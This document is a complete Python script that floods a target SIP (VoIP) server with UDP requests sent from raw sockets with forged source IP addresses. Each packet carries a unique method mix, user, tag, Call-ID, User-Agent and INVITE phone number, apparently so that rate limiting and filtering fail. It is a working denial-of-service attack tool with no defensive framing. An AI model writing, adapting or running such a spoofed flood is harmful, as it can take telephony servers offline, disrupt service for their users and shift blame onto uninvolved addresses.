"""Sends UDP requests of which no two share a source, a user, a tag, an agent, a number or a Call-ID.

Arguments: destination, messages, messages a second. Raw socket: the sources are forged. Prints how
many were sent. Uses nothing but the library.
"""

import socket
import struct
import sys
import time

target, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
METHODS = ["REGISTER", "INVITE", "OPTIONS", "SUBSCRIBE", "MESSAGE", "PUBLISH"]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_194_304)
begun = time.monotonic()
sent = 0
for n in range(1, count + 1):
    source = f"{11 + (n >> 16) % 90}.{(n * 7 >> 8) & 255}.{(n >> 3) & 255}.{n & 255}"
    method = METHODS[n % len(METHODS)]
    user = f"0044{1_000_000_000 + n * 37}" if method == "INVITE" else f"u{n}"
    payload = (
        f"{method} sip:{user}@{target} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-{n};rport\r\n"
        f"From: <sip:u{n}@{target}>;tag=t{n}\r\nTo: <sip:{user}@{target}>\r\n"
        f"Call-ID: c{n}@x{n}\r\nCSeq: 1 {method}\r\nMax-Forwards: 70\r\n"
        f"Contact: <sip:u{n}@10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}>\r\n"
        f"User-Agent: Agent {n}\r\nContent-Length: 0\r\n\r\n"
    ).encode()
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0)
    # The kernel fills in the length and the checksum of the header.
    head = struct.pack("!BBHHHBBH", 0x45, 0, 0, n & 65535, 0, 64, 17, 0)
    packet = head + socket.inet_aton(source) + socket.inet_aton(target) + udp + payload
    raw.sendto(packet, (target, 0))
    sent += 1
    if n % 100 == 0:
        ahead = n / rate - (time.monotonic() - begun)
        if ahead > 0:
            time.sleep(ahead)
print(sent)
